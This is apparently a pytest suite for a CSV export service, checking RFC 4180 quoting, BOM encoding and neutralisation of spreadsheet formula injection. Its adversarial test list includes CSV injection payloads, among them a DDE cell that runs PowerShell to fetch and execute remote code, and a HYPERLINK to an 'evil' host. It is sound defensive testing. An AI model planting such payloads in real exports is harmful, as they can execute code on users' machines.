"""CSV exports: RFC 4180, UTF-8 with a BOM, and no formula injection."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from stalwart.services.exports import cell, neutralise, to_csv

ADVERSARIAL = [
    '=HYPERLINK("http://evil","x")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "\t=1",
    "\r=1",
    "\n=1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    "=cmd|'/C powershell IEX(wget bit.ly/x)'!A0",
    "-12.5",  # a string, so it is neutralised; the number -12.5 is not
]


def read(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("value", ADVERSARIAL)
def test_formula_cells_are_prefixed_with_a_quote_and_round_trip(value: str) -> None:
    rows = read(to_csv([{"v": value}]))
    assert rows == [["v"], ["'" + value]]


def test_numbers_stay_numbers_and_safe_text_stays_as_is() -> None:
    data = to_csv(
        [
            {
                "n": -12.5,
                "i": -3,
                "d": Decimal("-0.10"),
                "b": True,
                "none": None,
                "day": date(2027, 3, 15),
                "text": 'plain, with "quotes" and\nnewline',
                "list": ["a", 1],
                "nan": float("nan"),
            }
        ]
    )
    header, row = read(data)
    assert dict(zip(header, row, strict=True)) == {
        "n": "-12.5",
        "i": "-3",
        "d": "-0.10",
        "b": "true",
        "none": "",
        "day": "2027-03-15",
        "text": 'plain, with "quotes" and\nnewline',
        "list": '["a", 1]',
        "nan": "",
    }


def test_rfc4180_quoting_and_crlf() -> None:
    data = to_csv([{"a": 'x,"y"', "b": "z"}], columns=["b", "a", "missing"])
    assert data == '\ufeffb,a,missing\r\nz,"x,""y""",\r\n'.encode()


def test_columns_default_to_every_key_in_order_and_headers_are_neutralised() -> None:
    rows = read(to_csv([{"a": 1}, {"=b": 2, "a": 3}]))
    assert rows == [["a", "'=b"], ["1", ""], ["3", "2"]]


def test_text_that_cannot_be_utf8_is_repaired() -> None:
    assert read(to_csv([{"v": "x\ud800\x00y"}])) == [["v"], ["x\ufffdy"]]


def test_cell_and_neutralise() -> None:
    assert neutralise("") == ""
    assert neutralise("a=b") == "a=b"
    assert cell(1e20) == "1e+20"
    assert cell(b"=bytes") == "'=bytes"


@settings(max_examples=300, deadline=None)
@given(st.lists(st.dictionaries(st.sampled_from("abc"), st.text(max_size=20)), max_size=5))
def test_any_text_round_trips_inert(rows: list[dict[str, str]]) -> None:
    parsed = read(to_csv(rows, columns=["a", "b", "c"]))
    assert parsed[0] == ["a", "b", "c"]
    for row, back in zip(rows, parsed[1:], strict=True):
        for col, got in zip("abc", back, strict=True):
            assert not got or got[0] not in "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"
            assert got == cell(row.get(col))
